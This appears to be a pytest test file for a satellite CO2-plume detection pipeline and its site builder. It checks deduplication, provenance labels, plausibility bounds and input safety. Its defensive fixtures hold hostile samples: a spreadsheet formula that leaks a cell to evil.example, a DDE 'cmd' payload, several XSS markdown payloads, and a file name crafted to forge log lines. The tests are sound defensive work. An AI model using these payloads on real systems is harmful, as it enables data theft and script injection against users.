        assert len([ln for ln in err.splitlines() if b.name in ln]) == 1, (b.name, err)
    det = pd.read_csv(tmp_path / "work" / "detections.csv")
    for i, g in enumerate(good):
        assert plume_city_id(i) in set(det.loc[det["source_file"] == g.name, "source_id"].astype(str))
    assert (tmp_path / "site" / "index.html").is_file()


# ----------------------------------------------------------------------------- issue 13: each observation counted once


def test_repeated_soundings_in_a_file_do_not_raise_the_significance(plume_env, tmp_path):
    from builder.pipeline import process_file

    _, cfg, sources, profiles = plume_env
    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
    cols = plume_columns(day, orbit, lat0, lon0, seed)
    clean = write_lite(tmp_path / "oco2_LtCO2_180801_B11210Ar_clean.nc4", cols)
    doubled = write_lite(tmp_path / "oco2_LtCO2_180801_B11210Ar_doubled.nc4",
                         {k: np.concatenate([v, v]) for k, v in cols.items()})
    a = process_file(clean, cfg, sources, profiles.emission_kg_s)
    b = process_file(doubled, cfg, sources, profiles.emission_kg_s)
    assert len(a.detections) == len(b.detections) >= 1
    np.testing.assert_allclose(b.detections["significance"].to_numpy(float),
                               a.detections["significance"].to_numpy(float))
    assert [e.reason for e in b.errors] == ["7,200 repeated soundings (same sounding_id) counted once"]


def _two_versions(folder: Path) -> tuple[Path, Path]:
    from tests.factories import write_lite_file

    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
    cols = plume_columns(day, orbit, lat0, lon0, seed)
    old = write_lite_file(folder, day=day, version="10r", columns=cols)
    new = write_lite_file(folder, day=day, version="11.1r", columns=cols)
    return old, new


def _core(plume_env, files):
    from builder.pipeline import run_core

    _, cfg, sources, profiles = plume_env
    skipped = Problems()
    core = run_core(cfg, files, sources, profiles.emission_kg_s, skipped, use_cache=False)
    return core.result, skipped


def test_two_versions_of_one_day_are_counted_once_newest_wins(plume_env, tmp_path):
    old, new = _two_versions(tmp_path)
    single, _ = _core(plume_env, [new])
    both, skipped = _core(plume_env, [old, new])
    assert [s.item for s in skipped] == [old.name], skipped
    assert "11.1r replaces 10r" in skipped[0].reason and "counted once" in skipped[0].reason
    assert set(both.detections["source_file"]) == {new.name}
    assert len(both.overpasses) == len(single.overpasses)
    assert both.summary["n_soundings"] == single.summary["n_soundings"]
    src = both.source_summary.set_index("source_id").loc[plume_city_id(0)]
    ref = single.source_summary.set_index("source_id").loc[plume_city_id(0)]
    assert src["n_overpasses"] == ref["n_overpasses"] == 1


def test_one_name_in_two_subfolders_is_counted_once(plume_env, tmp_path):
    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
    a, b = [write_plume_files(tmp_path / sub, [(day, inst, orbit, lat0, lon0, s)])[0] for sub, s in (("a", 1), ("b", 7))]
    assert a.name == b.name and a.read_bytes() != b.read_bytes()  # same name and orbit, not the same bytes
    res, skipped = _core(plume_env, [a, b])
    assert [s.item for s in skipped] == [b.name] and "same file name" in skipped[0].reason, skipped
    assert res.detections["detection_id"].is_unique and res.overpasses["overpass_id"].is_unique


def test_an_orbit_split_over_two_daily_files_is_kept_from_both(plume_env, tmp_path):
    """No overlap in time: the two halves of one orbit are two parts of the data, not a repeat."""
    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
    cols = plume_columns(day, orbit, lat0, lon0, seed)
    n = len(cols["sounding_id"])
    first = write_lite(tmp_path / "oco2_LtCO2_180801_B11210Ar_250101000000s.nc4", {k: v[: n // 2] for k, v in cols.items()})
    second = write_lite(tmp_path / "oco2_LtCO2_180802_B11210Ar_250101000000s.nc4", {k: v[n // 2:] for k, v in cols.items()})
    res, skipped = _core(plume_env, [first, second])
    assert skipped == []
    assert res.summary["n_soundings"] == n


def test_all_zero_sounding_ids_do_not_merge_two_plumes(plume_env, tmp_path):
    from builder.pipeline import process_file

    _, cfg, sources, profiles = plume_env
    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
    cols = plume_columns(day, orbit, lat0, lon0, seed)
    along = np.repeat(np.arange(900), 8) / 3.0 * 6.76
    cols["xco2"] = cols["xco2"] + 40.0 / (5.0 * np.sqrt(2 * np.pi)) * np.exp(-0.5 * ((along - 400.0) / 5.0) ** 2)
    cols["sounding_id"] = np.zeros_like(cols["sounding_id"])
    res = process_file(write_lite(tmp_path / "oco2_LtCO2_180801_B11210Ar_zero-ids.nc4", cols), cfg, sources,
                       profiles.emission_kg_s)
    ids = res.detections["detection_id"].astype(str)
    assert len(ids) >= 2 and ids.is_unique, ids.tolist()
    assert set(res.profiles["detection_id"]) == set(ids)  # each plume keeps its own profile


def test_ids_and_pages_are_unique_by_construction(faulty):
    from builder.render.urls import detection_page, source_page

    det = faulty["detections"]
    assert det["detection_id"].is_unique
    ovp = pd.read_csv(faulty["tmp"] / "work" / "overpasses.csv")
    assert ovp["overpass_id"].is_unique
    pages = [detection_page(str(i)) for i in det["detection_id"]]
    src = json.loads((faulty["tmp"] / "site" / "assets" / "data" / "sources.json").read_text(encoding="utf-8"))
    ids = [str(r[src["columns"].index("id")]) for r in src["rows"]]
    assert len(ids) == len(set(ids))
    pages += [source_page(i) for i in ids]
    assert len(pages) == len(set(pages))


def test_unique_ids_helper():
    from builder.dedupe import unique_ids

    out = list(unique_ids(["a", "b", "a", "a", "a-2"]))
    assert out[:2] == ["a", "b"] and len(set(out)) == 5, out
    assert list(unique_ids(["OCO-2-1-0"] * 3)) == ["OCO-2-1-0", "OCO-2-1-0-2", "OCO-2-1-0-3"]
    assert list(unique_ids(["x", "y"])) == ["x", "y"]  # stable where nothing repeats


def test_some_times_outside_the_file_date_are_dropped_with_a_line(plume_env, tmp_path):
    from builder.pipeline import process_file

    _, cfg, sources, profiles = plume_env
    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
    cols = plume_columns(day, orbit, lat0, lon0, seed)
    cols["time"] = np.where(np.arange(len(cols["time"])) < 80, 4.1e9, cols["time"])  # 80 stamped in 2099
    res = process_file(write_lite(tmp_path / "oco2_LtCO2_180801_B11210Ar_some-2099.nc4", cols), cfg, sources,
                       profiles.emission_kg_s)
    assert [e.reason for e in res.errors] == ["80 soundings with times outside the file's date 2018-08-01 (+-1 day) dropped"]
    assert int(res.tracks["n_soundings"].sum()) == len(cols["time"]) - 80
    assert len(res.detections) >= 1


# ----------------------------------------------------------------------------- issue 13: provenance from the data


def test_simulated_files_are_labelled_simulated_without_truth_csv(tmp_path):
    obs = tmp_path / "oco2"
    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
    write_lite(obs / "oco2_LtCO2_180801_B11210Ar_250101000000s.nc4" if obs.mkdir() is None else None,
               plume_columns(day, orbit, lat0, lon0, seed), attrs={"simulated": "true"})
    write_cities(tmp_path / "cities.csv", with_bad=False)
    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])
    code, out, err = run_cli(["--config", str(cfg), "build"])
    assert code == 0, err
    assert "[SIMULATED observations]" in out
    det = pd.read_csv(tmp_path / "work" / "detections.csv")
    assert set(det["observations"]) == {"simulated"}
    assert "Simulated observations." in (tmp_path / "site" / "index.html").read_text(encoding="utf-8")


def test_stray_truth_csv_does_not_mark_real_data_simulated(tmp_path):
    obs = tmp_path / "oco2"
    write_plume_files(obs, PLUMES[:1])
    (obs / "truth.csv").write_text("source_id,emission_kg_s\n", encoding="utf-8")
    write_cities(tmp_path / "cities.csv", with_bad=False)
    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])
    code, out, err = run_cli(["--config", str(cfg), "build"])
    assert code == 0, err
    assert "SIMULATED" not in out
    det = pd.read_csv(tmp_path / "work" / "detections.csv")
    assert set(det["observations"]) == {"observed"}
    assert "Simulated observations" not in (tmp_path / "site" / "index.html").read_text(encoding="utf-8")


def test_mixed_inputs_are_labelled_per_row_and_on_every_page(tmp_path):
    obs = tmp_path / "oco2"
    real = write_plume_files(obs, PLUMES[:1])[0]
    day, inst, orbit, lat0, lon0, seed = PLUMES[1]
    sim = write_lite(obs / "oco2_LtCO2_180802_B11210Ar_250101000000s.nc4", plume_columns(day, orbit, lat0, lon0, seed),
                     attrs={"simulated": "true"})
    write_cities(tmp_path / "cities.csv", with_bad=False)
    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])
    code, out, err = run_cli(["--config", str(cfg), "build"])
    assert code == 0, err
    det = pd.read_csv(tmp_path / "work" / "detections.csv")
    labels = dict(zip(det["source_file"].fillna(""), det["observations"]))
    assert labels.get(real.name) == "observed" and labels.get(sim.name) == "simulated", labels
    ovp = pd.read_csv(tmp_path / "work" / "overpasses.csv")
    assert set(ovp["observations"]) == {"observed", "simulated"}
    for page in (tmp_path / "site").rglob("*.html"):
        if page.name != "404.html":
            assert "Partly simulated observations." in page.read_text(encoding="utf-8"), page


# ----------------------------------------------------------------------------- issue 13: plausibility bounds


def test_inventory_row_above_100_mt_is_rejected_with_one_line(tmp_path):
    from builder.build import load_sources
    from builder.config import load_config

    df = cities_frame(hostile=False)
    df.loc[len(df)] = ["Absurd City", 1.0, 1.0, 1e30, "XX"]
    df.to_csv(tmp_path / "cities.csv", index=False)
    cfg = load_config(write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"]))
    skipped = Problems()
    sources, _ = load_sources(cfg, skipped)
    hits = [s for s in skipped if "absurd-city" in s.item]
    assert len(hits) == 1 and "plausible maximum" in hits[0].reason and hits[0].stage == "inventory", skipped
    assert "absurd-city" not in " ".join(sources["source_id"].astype(str))
    assert plume_city_id(0) in set(sources["source_id"])


def _run_plume(plume_env, tmp_path, name, *, scale=1.0, wind_u=3.0, **plausible):
    import dataclasses

    from builder.config import Plausible
    from builder.pipeline import run_core

    _, cfg, sources, profiles = plume_env
    if plausible:
        cfg = dataclasses.replace(cfg, plausible=Plausible(**plausible))
    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
    cols = plume_columns(day, orbit, lat0, lon0, seed)
    base = lite_columns(n_frames=900, start=f"{day}T12:00:00", orbit=orbit, lat0=lat0, lon0=lon0, noise_ppm=0.5,
                        seed=seed)["xco2"]
    cols["xco2"] = base + scale * (cols["xco2"] - base)
    cols["windspeed_u_met"] = np.full(len(cols["xco2"]), wind_u)
    path = write_lite(tmp_path / f"oco2_LtCO2_180801_B11210Ar_{name}.nc4", cols)
    core = run_core(cfg, [path], sources, profiles.emission_kg_s, [], use_cache=False)
    ovp = core.result.overpasses.set_index("source_id").loc[plume_city_id(0)]
    return core.result, ovp


def test_a_47_m_s_wind_is_flagged_implausible_not_a_plume(plume_env, tmp_path):
    from builder.pipeline import write_tables

    res, ovp = _run_plume(plume_env, tmp_path, "wind47", wind_u=47.0)
    assert bool(ovp["flag_implausible"]) and "wind 47 m/s" in ovp["implausible_reason"]
    assert not bool(ovp["detected"]), "an implausible estimate must never be shown as a plume"
    assert np.isfinite(float(ovp["emission_kg_s"])), "kept in the downloads, with the flag"
    write_tables(res, tmp_path / "out")
    det = pd.read_csv(tmp_path / "out" / "detections.csv")
    assert not ((det["detection_kind"] == "targeted") & (det["source_id"] == plume_city_id(0))).any()
    assert pd.read_csv(tmp_path / "out" / "overpasses.csv")["flag_implausible"].any()
    summ = res.source_summary.set_index("source_id").loc[plume_city_id(0)]
    assert summ["n_detected"] == 0 and summ["n_measured"] == 0


def test_a_plausible_plume_is_not_flagged(plume_env, tmp_path):
    res, ovp = _run_plume(plume_env, tmp_path, "normal", scale=0.4)  # ~38 Mt/yr
    assert not bool(ovp["flag_implausible"]) and bool(ovp["detected"])
    assert ovp["implausible_reason"] == ""


def test_a_huge_implied_emission_is_flagged_implausible(plume_env, tmp_path):
    res, ovp = _run_plume(plume_env, tmp_path, "bump32", scale=10.0)
    assert float(ovp["emission_kg_s"]) * 3.15576e7 / 1e9 > 60
    assert bool(ovp["flag_implausible"]) and "Mt/yr above the plausible maximum" in ovp["implausible_reason"]
    assert not bool(ovp["detected"])
    blind = res.detections
    assert blind.loc[blind["source_id"].astype(str) == plume_city_id(0), "flag_implausible"].all()


def test_plausibility_bounds_are_configurable(plume_env, tmp_path):
    res, ovp = _run_plume(plume_env, tmp_path, "wind47b", wind_u=47.0, max_wind_m_s=60.0, max_emission_t_yr=1e10)
    assert not bool(ovp["flag_implausible"])


# ----------------------------------------------------------------------------- issue 13: CSV safety everywhere


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _formula_world(tmp_path):
    obs = tmp_path / "oco2"
    write_plume_files(obs, PLUMES[:1])
    df = cities_frame(hostile=False)
    df.loc[0, "name"] = FORMULA  # the city upwind of the plume
    df.loc[len(df)] = ["@SUM(1+1)*cmd|' /C calc'!A0", -40.0, 150.0, 2e6, "YY"]
    df.to_csv(tmp_path / "cities.csv", index=False)
    return obs, write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])


def _no_formula_cells(folder: Path) -> list[str]:
    import csv

    bad = []
    for f in sorted(Path(folder).glob("*.csv")):
        with open(f, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                bad += [f"{f.name}: {cell[:40]}" for cell in row if cell[:1] in ("=", "@", "+") or
                        (cell[:1] == "-" and not _is_number(cell))]
    return bad


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_detect_out_csvs_neutralise_formulas(tmp_path):
    obs, cfg = _formula_world(tmp_path)
    code, out, err = run_cli(["--config", str(cfg), "detect", "--oco2", str(obs), "--out", str(tmp_path / "o")])
    assert code == 0, err
    text = (tmp_path / "o" / "detections.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text, "the city's name must still be there, neutralised"
    assert not _no_formula_cells(tmp_path / "o")


def test_build_work_csvs_neutralise_formulas(tmp_path):
    obs, cfg = _formula_world(tmp_path)
    code, out, err = run_cli(["--config", str(cfg), "build"])
    assert code == 0, err
    assert not _no_formula_cells(tmp_path / "work")
    assert not _no_formula_cells(tmp_path / "site" / "downloads")


def test_csv_safe_is_one_shared_helper():
    from builder import csvsafe
    from builder.render import writer

    assert writer.csv_safe is csvsafe.csv_safe
    df = pd.DataFrame({"t": ["=1+1", "ok", None, "-x"], "n": [-1.5, 2.0, 3.0, -4.0]})
    out = csvsafe.safe_text_columns(df)
    t = out["t"].tolist()
    assert t[:2] == ["'=1+1", "ok"] and pd.isna(t[2]) and t[3] == "'-x", t
    assert out["n"].tolist() == [-1.5, 2.0, 3.0, -4.0]


# ----------------------------------------------------------------------------- issue 13: a real HTML sanitiser


HOSTILE_MARKDOWN = {
    "nested-script": "Hi <<x>script>alert(1)<</x>/script> there",
    "nested-meta": '<<x>meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "entity-javascript": "[click](jav&#x61;script:alert(1))",
    "on-attribute": '<p onclick="alert(1)">text</p> <img src="a.png" onerror="alert(1)">',
    "data-url": '<a href="data:text/html,<script>alert(1)</script>">x</a> ![i](data:image/png;base64,AAAA)',
    "iframe-style": '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>',
    "svg-onload": '<svg/onload=alert(1)>',
}


def _live(html_text: str) -> list[str]:
    """Dangerous live markup in a page body: script/meta/iframe/style/svg tags, on* attributes,
    javascript:/data: URLs (attribute values entity-decoded, as a browser does)."""
    from html.parser import HTMLParser

    found = []

    class P(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag in ("script", "meta", "iframe", "style", "svg", "object", "embed"):
                found.append(f"<{tag}>")
            for k, v in attrs:
                val = "".join((v or "").split()).lower()
                if k.startswith("on") or val.startswith(("javascript:", "data:", "vbscript:")):
                    found.append(f"{k}={v!r}")

    P(convert_charrefs=True).feed(html_text)
    return found


@pytest.mark.parametrize("name", sorted(HOSTILE_MARKDOWN))
def test_hostile_markdown_never_becomes_live_and_is_reported(tmp_path, name):
    from builder.render.content import load_pages

    (tmp_path / f"{name}.md").write_text(f"---\ntitle: T\n---\n{HOSTILE_MARKDOWN[name]}\n", encoding="utf-8")
    pages, errors = load_pages(tmp_path)
    assert len(pages) == 1 and not _live(pages[0].html), pages[0].html
    assert len(errors) == 1 and "unsafe HTML removed" in errors[0], errors


def test_repository_content_passes_the_sanitiser_untouched():
    from builder.render.content import load_pages

    pages, errors = load_pages(ROOT / "content")
    assert pages and errors == []
    assert any("<sub>" in p.html for p in pages)  # allowed inline markup kept


def test_strict_fails_on_removed_html_and_the_page_is_safe(tmp_path):
    obs = tmp_path / "oco2"
    write_plume_files(obs, PLUMES[:1])
    write_cities(tmp_path / "cities.csv", with_bad=False)
    make_content(tmp_path / "content", bad=False)
    (tmp_path / "content" / "evil.md").write_text("---\ntitle: Evil\n---\n" + "\n\n".join(HOSTILE_MARKDOWN.values()),
                                                  encoding="utf-8")
    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"], content=tmp_path / "content")
    code, out, err = run_cli(["--config", str(cfg), "build", "--strict"])
    assert code == 3, err
    assert len([ln for ln in err.splitlines() if "evil.md" in ln and "unsafe HTML removed" in ln]) == 1, err
    page = (tmp_path / "site" / "evil" / "index.html").read_text(encoding="utf-8")
    body = page[page.index("<article"):page.index("</article>")]
    assert "Hi " in body and not _live(body), _live(body)


# ----------------------------------------------------------------------------- issue 13: same-named cities


SAME_NAMED = pd.DataFrame({
    "name": ["Springfield", "Springfield", "Portland", "Portland", "Tokyo"],
    "admin_name": ["Illinois", "Massachusetts", "Oregon", "Maine", "Tokyo"],
    "lat": [39.80, 42.10, 45.52, 43.66, 35.69], "lon": [-89.64, -72.59, -122.68, -70.26, 139.69],
    "population": [114000, 155000, 650000, 68000, 37000000], "iso3": ["USA", "USA", "USA", "USA", "JPN"],
})


def test_same_named_cities_in_one_country_coexist_by_region(tmp_path):
    from builder.inventory import read_cities

    SAME_NAMED.to_csv(tmp_path / "cities.csv", index=False)
    skipped = Problems()
    ids = read_cities(tmp_path / "cities.csv", skipped)["source_id"].tolist()
    assert skipped == []
    assert sorted(ids) == ["city-portland-usa-maine", "city-portland-usa-oregon", "city-springfield-usa-illinois",
                           "city-springfield-usa-massachusetts", "city-tokyo-jpn"]  # no clash: id unchanged


def test_same_named_cities_without_region_use_the_position(tmp_path):
    from builder.inventory import read_cities

    SAME_NAMED.drop(columns="admin_name").to_csv(tmp_path / "cities.csv", index=False)
    skipped = Problems()
    ids = read_cities(tmp_path / "cities.csv", skipped)["source_id"].tolist()
    assert skipped == [] and len(set(ids)) == 5
    assert "city-springfield-usa-39.80n89.64w" in ids and "city-portland-usa-43.66n70.26w" in ids


def test_the_same_city_twice_is_still_one_duplicate_line(tmp_path):
    from builder.inventory import read_cities

    pd.concat([SAME_NAMED, SAME_NAMED.iloc[[0]]]).to_csv(tmp_path / "cities.csv", index=False)
    skipped = Problems()
    ids = read_cities(tmp_path / "cities.csv", skipped)["source_id"].tolist()
    assert len(ids) == 5 and [s.item for s in skipped] == ["cities.csv:row 7"], skipped
    assert "duplicate id" in skipped[0].reason


def test_embedded_city_ids_are_unchanged():
    from builder.inventory import read_cities

    df = read_cities(ROOT / "dataset" / "cities" / "worldcities_basic_300k.csv", Problems())
    assert {"city-tokyo-jpn", "city-new-york-usa", "city-sao-paulo-bra"} <= set(df["source_id"])
    assert df["source_id"].is_unique


# ----------------------------------------------------------------------------- issue 13: the smaller points


def test_control_characters_in_file_names_cannot_forge_log_lines(tmp_path):
    obs = tmp_path / "oco2"
    write_plume_files(obs, PLUMES[:1])
    evil = "oco2_LtCO2_180814_B11210Ar_x\nskipped [ingest] forged.nc4: all good\x1b[2J.nc4"
    (obs / evil).write_bytes(b"not netcdf")
    cfg = write_config(tmp_path)
    code, out, err = run_cli(["--config", str(cfg), "build"])
    assert code == 0, err
    lines = [ln for ln in err.splitlines() if "oco2_LtCO2_180814" in ln]
    assert len(lines) == 1 and "\\n" in lines[0] and "\\x1b" in lines[0], err
    assert not any(ln.startswith("skipped [ingest] forged.nc4") for ln in err.splitlines())
    assert "\x1b" not in err


def test_port_in_use_is_its_own_clear_line(tmp_path):
    import socket

    cfg = write_config(tmp_path)
    from builder.outdir import write_manifest

    (tmp_path / "site").mkdir()
    (tmp_path / "site" / "index.html").write_text("<html></html>")
    write_manifest(tmp_path / "site")  # a site atlas published
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen(1)
        port = s.getsockname()[1]
        code, out, err = run_cli(["--config", str(cfg), "serve", "--port", str(port)])
    assert code == EXIT_SYSTEM and f"port {port} is already in use" in err and "internal error" not in err, err


def test_disk_full_is_its_own_clear_line(tmp_path, monkeypatch):
    import errno

    obs = tmp_path / "oco2"
    write_plume_files(obs, PLUMES[:1])
    cfg = write_config(tmp_path)

    def full(*a, **k):
        raise OSError(errno.ENOSPC, "No space left on device", str(tmp_path / ".site.tmp-0123abcd" / "index.html"))

    monkeypatch.setattr("builder.build.publish_site", full)
    code, out, err = run_cli(["--config", str(cfg), "build"])
    assert code == EXIT_SYSTEM and "disk full while writing index.html" in err and "internal error" not in err, err
    assert str(tmp_path) not in err


def test_symlinks_out_of_the_data_folder_are_not_followed(tmp_path):
    from builder.soundings import find_input_files

    outside = tmp_path / "elsewhere"
    theirs = write_plume_files(outside, PLUMES[1:2])[0]
    obs = tmp_path / "oco2"
    mine = write_plume_files(obs, PLUMES[:1])[0]
    (obs / "link.nc4").symlink_to(theirs)
    (obs / "linked-folder").symlink_to(outside, target_is_directory=True)
    (obs / "inside-link.nc4").symlink_to(mine)  # a link within the folder is fine
    names = sorted(p.name for p in find_input_files(obs))
    assert names == sorted([mine.name, "inside-link.nc4"]), names


def test_serve_threads_are_bounded_and_idle_connections_dropped(tmp_path):
    import socket
    import threading
    import time
    import urllib.request

    from builder.render.serve import start

    (tmp_path / "index.html").write_text("<html><body>ok</body></html>")
    base = threading.active_count()
    server, stop = start(tmp_path, 0, lambda: None, [], interval=60, max_threads=4, idle_timeout=0.5)
    port = server.server_address[1]
    socks = []
    try:
        for _ in range(40):  # half-open: connect, never send a request
            socks.append(socket.create_connection(("127.0.0.1", port)))
        time.sleep(0.2)
        assert threading.active_count() <= base + 2 + 4, threading.active_count()
        time.sleep(1.0)  # idle timeout: the held connections are dropped, the server serves again
        body = urllib.request.urlopen(f"http://127.0.0.1:{port}/index.html", timeout=5).read()
        assert b"ok" in body
    finally:
        for s in socks:
            s.close()
        stop.set()
        server.shutdown()
        server.server_close()


def test_a_file_with_thousands_of_orbit_numbers_is_split_without_per_orbit_work(plume_env, tmp_path, monkeypatch):
    """7,200 soundings, each with its own orbit number (a broken or hostile file): one sort, no
    detection work for one-sounding tracks; every sounding is still accounted for."""
    import builder.detect as det_mod
    from builder.pipeline import process_file

    _, cfg, sources, profiles = plume_env
    cols = plume_columns(*PLUMES[0][0:1], *PLUMES[0][2:])
    n = len(cols["orbit"])
    cols["orbit"] = np.arange(n)[::-1]  # reversed: tracks must still come out in orbit order
    path = write_lite(tmp_path / "oco2_LtCO2_180801_B11210Ar_orbits.nc4", cols)
    calls = []
    real = det_mod.detect_track
    monkeypatch.setattr(det_mod, "detect_track", lambda t, c: calls.append(1) or real(t, c))
    res = process_file(path, cfg, sources, profiles.emission_kg_s)
    assert calls == [] and len(res.tracks) == n and int(res.tracks["n_soundings"].sum()) == n
    assert res.tracks["orbit"].tolist() == sorted(res.tracks["orbit"].tolist())


def test_an_implausible_overpass_is_not_plotted_on_its_source_page(tmp_path):
    from builder.render.urls import source_page

    obs = tmp_path / "oco2"
    obs.mkdir()
    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
    cols = plume_columns(day, orbit, lat0, lon0, seed)
    cols["windspeed_u_met"] = np.full(len(cols["xco2"]), 47.0)
    write_lite(obs / "oco2_LtCO2_180801_B11210Ar_250101000000s.nc4", cols)
    write_cities(tmp_path / "cities.csv", with_bad=False)
    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])
    code, out, err = run_cli(["--config", str(cfg), "build"])
    assert code == 0, err
    page = (tmp_path / "site" / source_page(plume_city_id(0)) / "index.html").read_text(encoding="utf-8")
    assert "implausible (in the downloads only)" in page and "implausible (wind 47 m/s" in page
    assert ">plume<" not in page and "plume (deblended)" not in page
    ovp = pd.read_csv(tmp_path / "site" / source_page(plume_city_id(0)) / f"{plume_city_id(0)}-overpasses.csv")
    assert ovp["flag_implausible"].all() and np.isfinite(ovp["emission_kg_s"]).all()  # kept in the download


def test_log_lines_escape_control_characters():
    import logging

    from builder.cli import PrintableFormatter

    rec = logging.LogRecord("atlas", logging.WARNING, __file__, 1, "cannot read %s", ("a\nb\x1b[31m.nc4",), None)
    line = PrintableFormatter("atlas: %(message)s").format(rec)
    assert line == "atlas: cannot read a\\nb\\x1b[31m.nc4"


def test_the_comparison_keeps_large_estimates_and_drops_only_implausible_winds():
    """Flagging a large estimate as implausible must not remove it from the per-source ratio:
    cutting the upper noise tail would bias every ratio low (builder.plausible module doc).
    Only a fault of the input (a 47 m/s wind) removes an overpass from the combination."""
    from builder.compare import compare
    from builder.config import Plausible
    from builder.plausible import flag_implausible, plausible_only

    base = {"source_id": "S", "instrument": "OCO-2", "detected": False, "detection_id": "",
            "inventory_kg_s": 100.0, "emission_unc_kg_s": 150.0, "wind_v_m_s": 0.0}
    rows = pd.DataFrame([dict(base, orbit=1, emission_kg_s=-50.0, wind_u_m_s=5.0),
                         dict(base, orbit=2, emission_kg_s=600.0, wind_u_m_s=5.0),     # 6 x inventory, 4.5 less 1 sigma
                         dict(base, orbit=3, emission_kg_s=5000.0, wind_u_m_s=47.0)])  # faulty wind
    cfg = Plausible(max_emission_t_yr=1e6)       # so that orbit 2 counts as an implausible estimate
    flagged = flag_implausible(rows, cfg)
    assert flagged["flag_implausible"].tolist() == [False, True, True]
    s = compare(plausible_only(flagged, cfg)).iloc[0]
    assert s["n_measured"] == 2 and s["ratio"] == pytest.approx(2.75)     # (-0.5 + 6) / 2
